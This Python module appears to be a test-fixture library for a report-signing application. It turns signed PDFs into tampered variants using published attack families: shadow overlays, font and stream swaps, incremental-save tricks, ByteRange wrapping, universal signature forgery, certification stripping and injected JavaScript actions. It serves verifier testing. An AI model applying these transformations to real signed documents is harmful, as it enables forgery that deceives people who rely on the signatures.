"""What has been done to signed PDFs to change what people see: each takes a signed file and gives back a changed one.

The families are those of published research on PDF signatures (shadow attacks, incremental saving, signature wrapping,
universal signature forgery, attacks on certification): the ideas are theirs, the files are made here from our own.
"""

import re
from collections.abc import Callable, Mapping
from functools import partial
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from dvapp.services.reports.paging import Fields

Attack = Callable[[bytes], bytes]
Change = Callable[[IncrementalPdfFileWriter], None]

PAINT = b"q 1 1 1 rg 80 480 420 330 re f Q"
"""White over the upper part of a page."""


# --- how a file is changed --------------------------------------------------------------------------------------------


def appended(change: Change) -> Attack:
    """A well-formed revision more."""

    def attack(pdf: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(BytesIO(pdf))
        change(writer)
        out = BytesIO()
        writer.write(out)
        return out.getvalue()

    return attack


def raw_revision(pdf: bytes, objects: Mapping[int, bytes | None], *, info: int | None = None) -> bytes:
    """A revision written by hand: objects by number, ``None`` marks one as free."""
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    reader = IncrementalPdfFileWriter(BytesIO(pdf))
    root = reader.root_ref.idnum
    told = b" /Info %d 0 R" % info if info else b""
    out, table = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n"), b"xref\n"
    for number, body in sorted(objects.items()):
        if body is None:
            table += b"%d 1\n0000000000 00001 f\r\n" % number
            continue
        table += b"%d 1\n%010d 00000 n\r\n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(out)
    trailer = b"<< /Size 1000 /Root %d 0 R /Prev %d%s >>" % (root, previous, told)
    return bytes(out) + table + b"trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, at)


def numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(value) for value in values)


def dictionary(**entries: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(f"/{key}"): value for key, value in entries.items()})


def page_of(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    found: generic.IndirectObject = writer.root["/Pages"]["/Kids"].raw_get(0)
    return found


def edited_page(**entries: generic.PdfObject) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = page_of(writer)
        page.get_object().update({pdf_name(f"/{key}"): value for key, value in entries.items()})
        writer.mark_update(page)

    return change


def edited_root(**entries: generic.PdfObject) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root.update({pdf_name(f"/{key}"): value for key, value in entries.items()})
        writer.update_root()

    return change


def field_of(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    entries = writer.root["/AcroForm"]["/Fields"]
    references: list[generic.IndirectObject] = [entries.raw_get(number) for number in range(len(entries))]
    return next(reference for reference in references if reference.get_object()["/T"] == name)


def edited_field(name: str, **entries: generic.PdfObject) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        field = field_of(writer, name)
        field.get_object().update({pdf_name(f"/{key}"): value for key, value in entries.items()})
        writer.mark_update(field)

    return change


def form(content: bytes) -> generic.StreamObject:
    entries = dictionary(Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=numbers(0, 0, 595, 842))
    return generic.StreamObject(entries, stream_data=content)


# --- shadow: hide, replace, hide and replace --------------------------------------------------------------------------


def overlay(writer: IncrementalPdfFileWriter) -> None:
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=PAINT)))


def replaced_content(writer: IncrementalPdfFileWriter) -> None:
    page = page_of(writer).get_object()
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=PAINT))
    writer.mark_update(page_of(writer))


def replaced_stream(writer: IncrementalPdfFileWriter) -> None:
    """The page stays as it is; the object that it draws becomes another one."""
    contents = page_of(writer).get_object().raw_get("/Contents")
    contents = contents if isinstance(contents, generic.IndirectObject) else contents.raw_get(0)
    writer.objects[(contents.generation, contents.idnum)] = generic.StreamObject(stream_data=PAINT)


def _contents_number(pdf: bytes) -> int:
    contents = page_of(IncrementalPdfFileWriter(BytesIO(pdf))).get_object().raw_get("/Contents")
    return int((contents if isinstance(contents, generic.IndirectObject) else contents.raw_get(0)).idnum)


def freed_content(pdf: bytes) -> bytes:
    """The cross-reference table says that what the page draws is not there any more."""
    return raw_revision(pdf, {_contents_number(pdf): None})


def raw_replaced_content(pdf: bytes) -> bytes:
    body = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(PAINT), PAINT)
    return raw_revision(pdf, {_contents_number(pdf): body})


def hidden_layer(writer: IncrementalPdfFileWriter) -> None:
    layer = writer.add_object(dictionary(Type=pdf_name("/OCG"), Name=generic.pdf_string("x")))
    default = dictionary(OFF=generic.ArrayObject([layer]), Order=generic.ArrayObject([layer]))
    edited_root(OCProperties=dictionary(OCGs=generic.ArrayObject([layer]), D=default))(writer)


def dropped_annotations(writer: IncrementalPdfFileWriter) -> None:
    edited_page(Annots=generic.ArrayObject())(writer)


def swapped_appearance(name: str) -> Change:
    """The value stays, what is shown for it does not."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        looks = dictionary(N=writer.add_object(form(b"q 1 0 0 rg 0 0 60 20 re f Q")))
        edited_field(name, AP=looks)(writer)

    return change


def _font_of(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    fonts = page_of(writer).get_object()["/Resources"]["/Font"]
    found: generic.IndirectObject = next(
        fonts.raw_get(name)
        for name in fonts
        if "/FontDescriptor" in fonts[name] and isinstance(fonts.raw_get(name), generic.IndirectObject)
    )
    return found


def swapped_font_file(writer: IncrementalPdfFileWriter) -> None:
    """The same letters with other shapes: a 3 that looks like an 8."""
    described = _font_of(writer).get_object()["/FontDescriptor"]
    file = described.raw_get("/FontFile2")
    stream = generic.StreamObject(
        dictionary(Length1=generic.NumberObject(4)), stream_data=b"\x00\x01\x00\x00"
    )
    writer.objects[(file.generation, file.idnum)] = stream


def swapped_encoding(writer: IncrementalPdfFileWriter) -> None:
    font = _font_of(writer)
    font.get_object()[pdf_name("/Encoding")] = pdf_name("/WinAnsiEncoding")
    writer.mark_update(font)


def swapped_widths(writer: IncrementalPdfFileWriter) -> None:
    font = _font_of(writer)
    font.get_object()[pdf_name("/FirstChar")] = generic.NumberObject(1)
    writer.mark_update(font)


# --- incremental saving -----------------------------------------------------------------------------------------------


def more_pages(writer: IncrementalPdfFileWriter) -> None:
    page = dictionary(
        Type=pdf_name("/Page"), Parent=writer.root.raw_get("/Pages"), MediaBox=numbers(0, 0, 595, 842)
    )
    pages = writer.root["/Pages"]
    pages["/Kids"].append(writer.add_object(page))
    pages[pdf_name("/Count")] = generic.NumberObject(len(pages["/Kids"]))
    writer.mark_update(writer.root.raw_get("/Pages"))


def first_page_doubled(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"].append(page_of(writer))
    pages[pdf_name("/Count")] = generic.NumberObject(2)
    writer.mark_update(writer.root.raw_get("/Pages"))


def other_pages(writer: IncrementalPdfFileWriter) -> None:
    """A page tree of one's own; the signed one stays in the file."""
    page = dictionary(Type=pdf_name("/Page"), MediaBox=numbers(0, 0, 595, 842))
    reference = writer.add_object(page)
    kids = generic.ArrayObject([reference])
    tree = writer.add_object(dictionary(Type=pdf_name("/Pages"), Kids=kids, Count=generic.NumberObject(1)))
    page[pdf_name("/Parent")] = tree
    edited_root(Pages=tree)(writer)


def no_pages(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages[pdf_name("/Kids")] = generic.ArrayObject()
    pages[pdf_name("/Count")] = generic.NumberObject(0)
    writer.mark_update(writer.root.raw_get("/Pages"))


def annotation(subtype: str, **entries: generic.PdfObject) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        note = dictionary(
            Type=pdf_name("/Annot"),
            Subtype=pdf_name(f"/{subtype}"),
            Rect=numbers(100, 500, 300, 600),
            **entries,
        )
        writer.register_annotation(page_of(writer), writer.add_object(note))

    return change


def loose_objects(pdf: bytes) -> bytes:
    """A body without table and trailer: several viewers read it."""
    return pdf + b"%d 0 obj\n<< /Length 4 >>\nstream\nq Q \nendstream\nendobj\n" % _contents_number(pdf)


def loose_trailer(pdf: bytes) -> bytes:
    """A trailer that names another root, without a table."""
    return pdf + b"990 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 990 0 R /Size 991 >>\n%%EOF\n"


def copied_signature(pdf: bytes) -> bytes:
    """The changed page, and the signature's bytes once more behind it, as if it covered them."""
    changed = appended(overlay)(pdf)
    begin = pdf.index(b"/Contents <30")
    return changed + pdf[begin : pdf.index(b">", begin) + 1]


# --- signature wrapping -----------------------------------------------------------------------------------------------


def _with_ranges(pdf: bytes, make: Callable[[list[int], int], list[int]], which: int = 0) -> bytes:
    """The n-th signature's ranges rewritten in place; what becomes longer eats the blanks behind."""
    places = [found.start() for found in re.finditer(rb"/ByteRange \[", pdf)]
    at = places[which] + len(b"/ByteRange [")
    end = pdf.index(b"]", at)
    values = b" ".join(b"%d" % value for value in make([int(n) for n in pdf[at:end].split()], len(pdf)))
    rest = pdf[end + 1 :]
    blanks = len(rest) - len(rest.lstrip(b" "))
    written = (b"[" + values + b"]").ljust(end - at + 2 + blanks)
    return pdf[: at - 1] + written + pdf[at - 1 + len(written) :]


def wrapped(pdf: bytes) -> bytes:
    """The signed second part is moved to the end, and something else stands where it was."""
    begin = pdf.index(b"/Contents <30")
    close = pdf.index(b">", begin) + 1
    second = pdf[close:]
    return pdf[:close] + b" /X (khac)" + b" " * 64 + raw_replaced_content(pdf)[len(pdf) :] + second


RANGES: Mapping[str, Callable[[list[int], int], list[int]]] = {
    "begins_later": lambda r, _: [1, r[1] - 1, r[2], r[3]],
    "overlapping": lambda r, _: [0, r[2] + 5, r[2], r[3]],
    "doubled": lambda r, _: [0, r[1], 0, r[1]],
    "backwards": lambda r, _: [r[2], r[3], 0, r[1]],
    "beyond_the_end": lambda r, n: [0, r[1], r[2], n],
    "wider_gap": lambda r, _: [0, r[1] - 4, r[2], r[3]],
    "wider_gap_behind": lambda r, _: [0, r[1], r[2] + 9, r[3] - 9],
    "shorter_end": lambda r, _: [0, r[1], r[2], r[3] - 40],
    "nothing": lambda _r, _: [0, 0, 0, 0],
    "negative": lambda r, _: [0, r[1], -1, r[3]],
    "one_pair": lambda r, _: [0, r[1]],
    "three_pairs": lambda r, _: [0, 1, 1, r[1] - 1, r[2], r[3]],
    "whole_file": lambda _r, n: [0, n, n, 0],
}


# --- universal forgery: a signature that says nothing -----------------------------------------------------------------


def _value_as(entry: bytes, value: bytes) -> Attack:
    """``entry`` of the first signature replaced in place by ``value``, the rest blanked."""

    def attack(pdf: bytes) -> bytes:
        begin = pdf.index(entry + (b" <30" if entry == b"/Contents" else b" ["))
        close = b">" if entry == b"/Contents" else b"]"
        end = pdf.index(close, begin) + 1
        return pdf[:begin] + value.ljust(end - begin) + pdf[end:]

    return attack


FORGERIES: Mapping[str, Attack] = {
    "no_value": _value_as(b"/Contents", b""),
    "null_value": _value_as(b"/Contents", b"/Contents null"),
    "empty_value": _value_as(b"/Contents", b"/Contents <>"),
    "zero_value": _value_as(b"/Contents", b"/Contents <00>"),
    "text_value": _value_as(b"/Contents", b"/Contents (x)"),
    "no_ranges": _value_as(b"/ByteRange", b""),
    "null_ranges": _value_as(b"/ByteRange", b"/ByteRange null"),
    "empty_ranges": _value_as(b"/ByteRange", b"/ByteRange []"),
    "text_ranges": _value_as(b"/ByteRange", b"/ByteRange (0 1)"),
    "nulls_in_ranges": _value_as(b"/ByteRange", b"/ByteRange [null null null null]"),
    "other_filter": lambda pdf: pdf.replace(b"/ETSI.CAdES.detached", b"/adbe.x509.rsa_sha1 ", 1),
    "timestamp_type": lambda pdf: pdf.replace(b"/ETSI.CAdES.detached", b"/ETSI.RFC3161       ", 1),
}


# --- form, attachment, catalogue, certification -----------------------------------------------------------------------


def second_attachment(writer: IncrementalPdfFileWriter) -> None:
    """Another file of the same name before the signed one."""
    stream = generic.StreamObject(dictionary(Type=pdf_name("/EmbeddedFile")), stream_data=b"{}")
    name = generic.pdf_string("bao-cao.json")
    spec = dictionary(Type=pdf_name("/Filespec"), F=name, UF=name, EF=dictionary(F=writer.add_object(stream)))
    reference = writer.add_object(spec)
    files = dictionary(Names=generic.ArrayObject([name, reference]))
    edited_root(AF=generic.ArrayObject([reference]), Names=dictionary(EmbeddedFiles=files))(writer)


def replaced_attachment(writer: IncrementalPdfFileWriter) -> None:
    file = writer.root["/AF"][0]["/EF"].raw_get("/F")
    stream = generic.StreamObject(dict(file.get_object()), stream_data=b"{}")
    writer.objects[(file.generation, file.idnum)] = stream


def new_field(writer: IncrementalPdfFileWriter) -> None:
    """A text field over the page, filled by the attacker."""
    field = dictionary(
        Type=pdf_name("/Annot"),
        Subtype=pdf_name("/Widget"),
        FT=pdf_name("/Tx"),
        T=generic.pdf_string("con-so"),
        V=generic.pdf_string("999"),
        Rect=numbers(100, 500, 300, 600),
        P=page_of(writer),
    )
    reference = writer.add_object(field)
    writer.register_annotation(page_of(writer), reference)
    fields = writer.root["/AcroForm"]
    fields["/Fields"].append(reference)
    writer.mark_update(writer.root.raw_get("/AcroForm"))


def wished_appearances(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/AcroForm"][pdf_name("/NeedAppearances")] = generic.BooleanObject(value=True)
    writer.mark_update(writer.root.raw_get("/AcroForm"))


def uncertified(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/Perms"]
    writer.update_root()


def freed_signature(pdf: bytes) -> bytes:
    """The table says that the leader's signature is not there any more."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    value = field_of(writer, Fields.LEADER).get_object().raw_get("/V")
    return raw_revision(pdf, {int(value.idnum): None})


def _script() -> generic.DictionaryObject:
    return dictionary(S=pdf_name("/JavaScript"), JS=generic.pdf_string("app.alert(1)"))


def other_title(pdf: bytes) -> bytes:
    """Another title, which stands in the head of every viewer's window."""
    return raw_revision(pdf, {900: b"<< /Title (Bao cao khac) >>"}, info=900)


def other_metadata(pdf: bytes) -> bytes:
    """The same in XMP, which newer viewers ask first."""
    packet = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li>Khac'
        b"</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    root = BytesIO()
    writer.root.write_to_stream(root)
    catalogue = root.getvalue().rstrip().removesuffix(b">>") + b"/Metadata 900 0 R >>"
    stream = b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream" % (len(packet), packet)
    return raw_revision(pdf, {900: stream, writer.root_ref.idnum: catalogue})


def of_pages(key: str, value: generic.PdfObject) -> Change:
    """Said of all pages at once, where each page inherits it."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/Pages"][pdf_name(f"/{key}")] = value
        writer.mark_update(writer.root.raw_get("/Pages"))

    return change


def of_form(key: str, make: Callable[[IncrementalPdfFileWriter], generic.PdfObject]) -> Change:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/AcroForm"][pdf_name(f"/{key}")] = make(writer)
        writer.mark_update(writer.root.raw_get("/AcroForm"))

    return change


def dynamic_form(writer: IncrementalPdfFileWriter) -> generic.PdfObject:
    """XFA, which some programs show instead of the pages."""
    return writer.add_object(generic.StreamObject(stream_data=b"<xdp:xdp xmlns:xdp='x'/>"))


def field_of_the_same_name(writer: IncrementalPdfFileWriter) -> None:
    """A second number over the first, where only filled fields are looked up by their names."""
    field = dictionary(
        Type=pdf_name("/Annot"), Subtype=pdf_name("/Widget"), FT=pdf_name("/Tx"), T=generic.pdf_string(Fields.NUMBER),
        V=generic.pdf_string("99"), Rect=numbers(100, 700, 300, 760), P=page_of(writer),
        AP=dictionary(N=writer.add_object(form(PAINT))),
    )  # fmt: skip
    reference = writer.add_object(field)
    writer.register_annotation(page_of(writer), reference)
    fields = writer.root["/AcroForm"]
    fields["/Fields"].append(reference)
    writer.mark_update(writer.root.raw_get("/AcroForm"))


def foreign_store(writer: IncrementalPdfFileWriter) -> None:
    """Something of one's own among the revocation answers."""
    store = dictionary(Type=pdf_name("/DSS"), Khac=writer.add_object(form(PAINT)))
    edited_root(DSS=writer.add_object(store))(writer)


def with_store(change: Change) -> Change:
    """A change that hides behind a lawful one: revocation answers added in the same state."""

    def both(writer: IncrementalPdfFileWriter) -> None:
        change(writer)
        edited_root(DSS=writer.add_object(dictionary(Type=pdf_name("/DSS"), CRLs=generic.ArrayObject())))(
            writer
        )

    return both


def shadowing_object_stream(pdf: bytes) -> bytes:
    """The page once more, in an object stream that a table of the newer kind leads to."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    page, root = page_of(writer).idnum, writer.root_ref.idnum
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    head, body = b"%d 0 " % page, b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    packed = b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n%s\nendstream" % (
        len(head), len(head + body), head + body,
    )  # fmt: skip
    out = pdf + b"900 0 obj\n%s\nendobj\n" % packed
    entries = {page: (2, 900, 0), 900: (1, len(pdf), 0), 901: (1, len(out), 0)}
    rows = b"".join(
        kind.to_bytes(1, "big") + at.to_bytes(4, "big") + bytes([index])
        for _, (kind, at, index) in sorted(entries.items())
    )
    index = b" ".join(b"%d 1" % number for number in sorted(entries))
    table = b"<< /Type /XRef /Size 1000 /W [1 4 1] /Index [%s] /Root %d 0 R /Prev %d /Length %d >>" % (
        index, root, previous, len(rows),
    )  # fmt: skip
    return out + b"901 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        rows,
        len(out),
    )


_CHANGES: Mapping[str, Change] = {
    "overlay": overlay,
    "replaced_content": replaced_content,
    "replaced_stream": replaced_stream,
    "hidden_layer": hidden_layer,
    "dropped_annotations": dropped_annotations,
    "swapped_look_of_the_leader": swapped_appearance(Fields.LEADER),
    "swapped_font_file": swapped_font_file,
    "swapped_encoding": swapped_encoding,
    "swapped_widths": swapped_widths,
    "more_pages": more_pages,
    "first_page_doubled": first_page_doubled,
    "other_pages": other_pages,
    "no_pages": no_pages,
    "turned_page": edited_page(Rotate=generic.NumberObject(180)),
    "cropped_page": edited_page(CropBox=numbers(0, 0, 595, 300)),
    "scaled_page": edited_page(UserUnit=generic.NumberObject(2)),
    "page_action": edited_page(AA=dictionary(O=_script())),
    "free_text": annotation("FreeText", Contents=generic.pdf_string("574 → 600")),
    "stamp": annotation("Stamp", Name=pdf_name("/Approved")),
    "redaction": annotation("Redact"),
    "link": annotation("Link", A=dictionary(S=pdf_name("/URI"), URI=generic.pdf_string("http://x.invalid"))),
    "file_note": annotation("FileAttachment", Contents=generic.pdf_string("x")),
    "second_attachment": second_attachment,
    "replaced_attachment": replaced_attachment,
    "no_attachment": edited_root(AF=generic.ArrayObject()),
    "new_field": new_field,
    "moved_leader": edited_field(Fields.LEADER, Rect=numbers(0, 0, 500, 500)),
    "hidden_leader": edited_field(Fields.LEADER, F=generic.NumberObject(2)),
    "renamed_leader": edited_field(Fields.LEADER, T=generic.pdf_string("khac")),
    "scripted_field": edited_field(Fields.NUMBER, AA=dictionary(C=_script())),
    "wished_appearances": wished_appearances,
    "uncertified": uncertified,
    "open_action": edited_root(OpenAction=_script()),
    "document_actions": edited_root(AA=dictionary(WP=_script())),
    "dynamic_form": of_form("XFA", dynamic_form),
    "counted_fields": of_form("CO", lambda writer: generic.ArrayObject([field_of(writer, Fields.NUMBER)])),
    "field_of_the_same_name": field_of_the_same_name,
    "turned_by_the_tree": of_pages("Rotate", generic.NumberObject(90)),
    "fewer_pages_counted": of_pages("Count", generic.NumberObject(0)),
    "other_numbers_of_pages": edited_root(PageLabels=dictionary(Nums=generic.ArrayObject())),
    "made_a_portfolio": edited_root(Collection=dictionary(View=pdf_name("/H"))),
    "usage_rights": edited_root(Perms=dictionary(UR3=dictionary(Type=pdf_name("/Sig")))),
    "foreign_store": foreign_store,
    "overlay_with_a_store": with_store(overlay),
    "look_with_a_store": with_store(swapped_appearance(Fields.NUMBER)),
    "bookmarks": edited_root(Outlines=dictionary(Type=pdf_name("/Outlines"), Count=generic.NumberObject(0))),
    "other_language": edited_root(Lang=generic.pdf_string("en")),
    "viewer_settings": edited_root(
        ViewerPreferences=dictionary(HideToolbar=generic.BooleanObject(value=True))
    ),
}

REVISIONS: Mapping[str, Attack] = {
    **{name: appended(change) for name, change in _CHANGES.items()},
    "other_title": other_title,
    "other_metadata": other_metadata,
}
"""Revisions that no signature stands for, as any editor could append them."""

CURED = frozenset({"wished_appearances"})
"""What the other program takes back when it signs: the file is then as it was."""

STOOD_FOR = frozenset({"look_with_a_store"})
"""What whoever seals afterwards stands for: how a field looks that he may fill (decision 37)."""

RAW: Mapping[str, Attack] = {
    "freed_content": freed_content,
    "raw_replaced_content": raw_replaced_content,
    "freed_signature": freed_signature,
    "loose_objects": loose_objects,
    "loose_trailer": loose_trailer,
    "shadowing_object_stream": shadowing_object_stream,
    "archive_behind": lambda pdf: pdf + b"PK\x05\x06" + bytes(18),
    "archive_before": lambda pdf: b"PK\x03\x04" + pdf,
    "ended_twice": lambda pdf: pdf + b"%%EOF\n",
    "copied_signature": copied_signature,
    "wrapped": wrapped,
    **{f"ranges_{name}": partial(_with_ranges, make=make) for name, make in RANGES.items()},
    **{f"forged_{name}": attack for name, attack in FORGERIES.items()},
}
"""Attacks on the bytes themselves."""
